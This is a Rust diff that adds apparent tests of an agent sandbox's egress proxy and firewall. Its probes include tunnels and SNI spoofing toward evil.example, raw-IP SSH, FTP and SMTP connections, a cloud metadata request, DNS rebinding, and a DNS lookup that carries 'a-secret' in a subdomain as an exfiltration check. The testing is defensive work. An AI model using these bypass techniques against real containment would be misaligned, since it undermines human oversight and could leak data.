@@ -7,6 +7,7 @@
 )]
 
 use super::files::flags;
+use crate::calls::{PROXY, exchange, hello, look_up, many, request};
 use crate::raw::{call, say};
 use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
 use std::os::unix::net::UnixStream;
@@ -59,4 +60,103 @@ pub fn sockets_of_the_host() {
     say("connect to a socket in the project", UnixStream::connect("/project/host.sock"));
     say("socket unix", call(libc::SYS_socket, [flags(libc::AF_UNIX), 1, 0, 0, 0, 0]));
     say("may make a connected pair", UnixStream::pair());
+}
+
+fn tunnel(host: &str) -> String {
+    format!("CONNECT {host} HTTP/1.1\r\n\r\n")
+}
+
+/// What came back, and for honest work that it did.
+fn told(what: &str, heard: &str) {
+    let is_honest = what.starts_with("may ") && (heard.contains(" 200 ") || heard.contains("TLS"));
+    println!("{what}: {}", if is_honest { "allowed" } else { heard });
+}
+
+const HOST: &str = "good.example";
+/// Where an agent finds the allowed host, if it asks for its address.
+const FOUND: &str = "198.18.0.1";
+
+pub fn allowed_host() {
+    let by_proxy = exchange(PROXY, &[tunnel("good.example:443").as_bytes(), &hello(HOST)]);
+    told("may speak TLS by the proxy", &by_proxy);
+    told(
+        "may ask by the proxy",
+        &exchange(PROXY, &[b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"]),
+    );
+    println!("address of {HOST}: {}", look_up("127.0.0.1:53", HOST));
+    told("may speak TLS without it", &exchange(&format!("{FOUND}:443"), &[&hello(HOST)]));
+    told("may ask without it", &exchange(&format!("{FOUND}:80"), &[request(HOST).as_bytes()]));
+}
+
+pub fn other_host() {
+    told("tunnel to another", &exchange(PROXY, &[tunnel("evil.example:443").as_bytes()]));
+    told("tunnel below the allowed", &exchange(PROXY, &[tunnel("x.good.example:443").as_bytes()]));
+    told("tunnel to an address", &exchange(PROXY, &[tunnel("140.82.121.3:443").as_bytes()]));
+    told("tunnel to a number", &exchange(PROXY, &[tunnel("2356312323:443").as_bytes()]));
+    told("tunnel to itself", &exchange(PROXY, &[tunnel("127.0.0.1:3128").as_bytes()]));
+}
+
+pub fn around_the_proxy() {
+    told("TLS to an address", &exchange("140.82.121.3:443", &[&hello("evil.example")]));
+    told("HTTP to an address", &exchange("140.82.121.3:80", &[request("evil.example").as_bytes()]));
+    told("HTTP to the machine's own", &exchange("169.254.169.254:80", &[request("x").as_bytes()]));
+    told("a port nobody has", &exchange("140.82.121.3:12345", &[b"x"]));
+}
+
+pub fn other_name() {
+    let asked = tunnel("good.example:443");
+    told("another name in a tunnel", &exchange(PROXY, &[asked.as_bytes(), &hello("evil.example")]));
+    told("another name without", &exchange(&format!("{FOUND}:443"), &[&hello("evil.example")]));
+}
+
+pub fn other_bytes() {
+    let asked = tunnel("good.example:443");
+    told("ssh in a tunnel", &exchange(PROXY, &[asked.as_bytes(), b"SSH-2.0-x\r\n"]));
+    told("HTTP in a tunnel", &exchange(PROXY, &[asked.as_bytes(), request(HOST).as_bytes()]));
+}
+
+pub fn other_protocols_captured() {
+    told("ssh", &exchange("140.82.121.3:22", &[b"SSH-2.0-x\r\n"]));
+    told("ftp", &exchange("140.82.121.3:21", &[b"USER x\r\n"]));
+    told("git", &exchange("140.82.121.3:9418", &[b"0032git-upload-pack"]));
+    told("mail", &exchange("140.82.121.3:25", &[b"EHLO x\r\n"]));
+}
+
+pub fn other_port() {
+    told("another port", &exchange(PROXY, &[tunnel("good.example:9999").as_bytes()]));
+    told("ssh's port", &exchange(PROXY, &[tunnel("good.example:22").as_bytes()]));
+}
+
+pub fn names_captured() {
+    for server in ["8.8.8.8:53", "127.0.0.1:53"] {
+        told(&format!("ask {server}"), &look_up(server, "a-secret.evil.example"));
+    }
+    told("by tls", &exchange("1.1.1.1:853", &[&hello("one.one.one.one")]));
+    told("by https", &exchange("1.1.1.1:443", &[&hello("one.one.one.one")]));
+}
+
+pub fn private_addresses() {
+    for host in ["loop", "cloud", "lan", "six", "ula", "carrier"] {
+        let asked = tunnel(&format!("{host}.example:443"));
+        let heard = exchange(PROXY, &[asked.as_bytes(), &hello(&format!("{host}.example"))]);
+        told(&format!("tunnel to {host}.example"), &heard);
+    }
+}
+
+pub fn rebinding() {
+    let asked = tunnel("turn.example:443");
+    let speak = || exchange(PROXY, &[asked.as_bytes(), &hello("turn.example")]);
+    told("may speak where the first answer leads", &speak());
+    told("where the second answer leads", &speak());
+}
+
+pub fn redirect() {
+    let away = b"GET http://good.example/away HTTP/1.1\r\nHost: good.example\r\n\r\n";
+    println!("sent away by the allowed host: {}", exchange(PROXY, &[away]));
+    let there = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n";
+    told("go there", &exchange(PROXY, &[there]));
+}
+
+pub fn too_many() {
+    println!("requests without end: {}", many(500, HOST));
 }
